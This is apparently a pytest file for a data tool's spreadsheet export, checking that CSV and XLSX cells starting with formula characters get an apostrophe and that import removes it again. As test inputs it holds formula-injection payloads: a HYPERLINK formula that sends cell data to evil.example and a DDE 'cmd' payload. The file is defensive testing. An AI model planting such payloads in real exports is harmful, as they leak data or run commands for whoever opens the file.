"""Spreadsheet cells: formulas made inert in every export, and given back on import."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ponte.core.rows import (
    csv_chunks,
    from_spreadsheet_cell,
    read_rows,
    spreadsheet_cell,
    xlsx_bytes,
)

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "text",
    [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "- a list item"],
)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-5, Decimal("-12.50"), -0.5, 1250, "-5", "-12.5", "+3", "-1e3", "Waste bank", ""]
)
def test_numbers_and_ordinary_text_stay_as_they_are(value: object) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize(
    "text", [EVIL, "'" + EVIL, "''=1", "'Ohana", "'", "'-5", "-5", "- item", "plain", "@"]
)
def test_escaping_is_undone_exactly(text: str) -> None:
    assert from_spreadsheet_cell(spreadsheet_cell(text)) == text


def test_csv_and_xlsx_cells_are_inert_while_numbers_stay_numbers() -> None:
    rows = [[EVIL, -5, Decimal("-1.5"), "-7"]]
    csv_text = b"".join(csv_chunks(["a", "b", "c", "d"], rows)).decode()
    assert (
        csv_text.splitlines()[1]
        == '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",-5,-1.5,-7'
    )
    sheet = load_workbook(io.BytesIO(xlsx_bytes("data", ["a", "b", "c", "d"], rows))).active
    title, number, decimal, text = next(sheet.iter_rows(min_row=2))
    assert title.data_type != "f" and title.value == "'" + EVIL
    assert number.data_type == "n" and number.value == -5
    assert decimal.data_type == "n" and decimal.value == -1.5
    assert text.value == "-7"


def test_imported_csv_cells_lose_the_apostrophe_export_added() -> None:
    exported = b"".join(csv_chunks(["title"], [[EVIL]])).decode()
    [(_line, row)] = list(read_rows(io.StringIO(exported), "csv", fields=["title"]))
    assert row == {"title": EVIL}


def test_csv_is_written_in_chunks() -> None:
    rows = ([f"row {n}", "x" * 100] for n in range(2000))
    chunks = list(csv_chunks(["a", "b"], rows))
    assert len(chunks) > 1 and all(len(chunk) < 70 * 1024 for chunk in chunks)
    assert b"".join(chunks).decode().count("\r\n") == 2001
